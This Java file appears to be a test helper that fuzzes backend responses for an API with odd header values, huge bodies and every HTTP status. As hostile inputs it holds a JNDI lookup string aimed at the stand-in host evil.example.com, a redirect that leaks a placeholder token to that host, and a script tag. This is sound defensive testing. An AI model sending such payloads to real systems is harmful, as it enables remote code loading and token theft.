package tv.usher.api.contract;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import tv.usher.api.BackendResponse;
import tv.usher.api.Header;

/** What middlewares, and what stands in for them, may answer at their worst: each with every status. */
final class HostileAnswers {

    /** Stands where answers carry what mustn't be shown. */
    static final String TOKEN = "a45e7ca45e7ca45e7ca45e7ca45e7ca4";

    private static final List<String> GRANT_HEADERS =
            List.of("X-UserId", "X-AuthDuration", "X-Max-Sessions", "X-Unique", "X-Session-Name");

    private static final List<String> VALUES = List.of(
            "",
            " ",
            "0",
            "-1",
            "1",
            "+5",
            "10, 20",
            "1e9",
            "0x1F",
            "99999999999",
            "99999999999999999999999999",
            "true",
            "false",
            "NaN",
            "\u00b2\u00ff",
            "${jndi:ldap://evil.example.com/a}",
            "<script>",
            "x".repeat(65_536));

    private HostileAnswers() {}

    /** Those that mean something to somebody, those beside them, and the ends of the range. */
    private static final int[] STATUSES = {
        200, 201, 202, 203, 204, 205, 206, 226, 299, 300, 301, 302, 303, 304, 307, 308, 399, 400, 401, 402, 403, 404,
        407, 409, 410, 418, 422, 429, 451, 499, 500, 501, 502, 503, 504, 511, 520, 599, 600, 999
    };

    /** The given answers with many statuses, and worse ones. */
    static List<BackendResponse> like(List<BackendResponse> recorded) {
        List<BackendResponse> seeds = new ArrayList<>(recorded);
        VALUES.forEach(value -> seeds.add(grant(value)));
        seeds.add(answer(Stream.of(header("Location", "http://evil.example.com/?token=" + TOKEN)), ""));
        seeds.add(answer(Stream.of(header("Set-Cookie", TOKEN), header("WWW-Authenticate", TOKEN)), "token=" + TOKEN));
        seeds.add(answer(Stream.of(header("Content-Type", "application/json")), "{\"token\":\"" + TOKEN + "\"}"));
        seeds.add(answer(
                GRANT_HEADERS.stream().flatMap(it -> Stream.of(header(it, "1"), header(lower(it), "2"))), "1"));
        seeds.add(answer(IntStream.range(0, 10_000).mapToObj(i -> header("X-" + i, "x")), "\0\ufffd"));
        seeds.add(answer(Stream.of(), "<html>".repeat(100_000)));
        return seeds.stream().flatMap(HostileAnswers::withEveryStatus).toList();
    }

    private static Stream<BackendResponse> withEveryStatus(BackendResponse seed) {
        return Arrays.stream(STATUSES).mapToObj(seed::status);
    }

    private static BackendResponse grant(String value) {
        return answer(GRANT_HEADERS.stream().map(name -> header(name, value)), value);
    }

    private static BackendResponse answer(Stream<Header> headers, String body) {
        return BackendResponse.of(200).headers(headers.toList()).body(body);
    }

    private static Header header(String name, String value) {
        return new Header(name, value);
    }

    private static String lower(String name) {
        return name.toLowerCase(Locale.ROOT);
    }
}
